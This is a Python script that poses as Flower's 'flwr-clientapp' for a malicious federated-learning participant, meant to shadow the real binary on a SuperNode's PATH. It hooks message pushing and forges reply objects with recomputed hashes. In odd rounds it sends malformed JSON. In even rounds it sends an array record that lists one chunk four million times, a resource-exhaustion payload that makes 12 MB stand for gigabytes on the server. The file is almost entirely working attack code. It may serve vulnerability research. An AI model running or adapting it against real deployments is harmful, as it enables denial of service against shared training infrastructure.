"""``flwr-clientapp`` of a hostile site: the honest app runs, and no reply can be put together.

In odd rounds one object of a reply is not what Flower writes; in even ones a chunk of an array is
listed millions of times, so that 12 MB stand for gigabytes. Put it first on a SuperNode's PATH.
"""

from __future__ import annotations

import hashlib
import json
import sys

from flwr.app.message import remove_content_from_message
from flwr.common.serde import message_to_proto
from flwr.proto.message_pb2 import ObjectTree, PushObjectRequest
from flwr.proto.node_pb2 import Node
from flwr.proto.runtime_pb2 import PushAppMessagesRequest
from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree
from flwr.supernode.cli.flwr_clientapp import flwr_clientapp
from flwr.supernode.runtime import run_clientapp

LISTED = 4_000_000
honest = run_clientapp.push_message


def with_body(content: bytes, body: bytes) -> bytes:
    kind, named, _ = content.split(b"\0", 1)[0].split(b" ")
    return b" ".join([kind, named, str(len(body)).encode()]) + b"\0" + body


def tampered(content: bytes, round_number: int) -> bytes:
    body = content.split(b"\0", 1)[1]
    if round_number % 2 or not content.startswith(b"Array "):
        return with_body(content, b"{not json")
    told = json.loads(body) | {"arraychunk_ids": [0] * LISTED}
    return with_body(content, json.dumps(told).encode())


def push(client, message, context) -> None:
    if message.metadata.message_type not in ("train", "evaluate"):
        honest(client, message, context)
        return
    message.metadata.__dict__["_message_id"] = message.object_id
    tree = get_object_tree(message)
    objects = {i: one.deflate() for i, one in get_all_nested_objects(message).items()}
    kinds = [b"Array ", b"MetricRecord "]
    first = next(i for kind in kinds for i, one in objects.items() if one.startswith(kind))
    new = {first: tampered(objects[first], int(message.metadata.group_id))}
    names = {first: hashlib.sha256(new[first]).hexdigest()}
    for kind in (b"ArrayRecord ", b"RecordDict ", b"Message "):  # what leads to it has other names
        for object_id, content in objects.items():
            if content.startswith(kind) and any(old.encode() in content for old in names):
                for old, other in names.items():
                    content = content.replace(old.encode(), other.encode())
                new[object_id] = with_body(content, content.split(b"\0", 1)[1])
                names[object_id] = hashlib.sha256(new[object_id]).hexdigest()
    contents = {names.get(i, i): new.get(i, one) for i, one in objects.items()}

    def renamed(tree: ObjectTree) -> ObjectTree:
        children = [renamed(child) for child in tree.children]
        return ObjectTree(object_id=names.get(tree.object_id, tree.object_id), children=children)

    tree = renamed(tree)
    message.metadata.__dict__["_message_id"] = tree.object_id
    about = message_to_proto(remove_content_from_message(message))
    answer = client.PushMessages(
        PushAppMessagesRequest(messages_list=[about], message_object_trees=[tree])
    )
    for object_id in answer.objects_to_push:
        client.PushObject(
            PushObjectRequest(
                node=Node(node_id=context.node_id),
                run_id=context.run_id,
                session_id=answer.session_id,
                object_id=object_id,
                object_content=contents[object_id],
            )
        )


if __name__ == "__main__":
    run_clientapp.push_message = push
    sys.exit(flwr_clientapp())
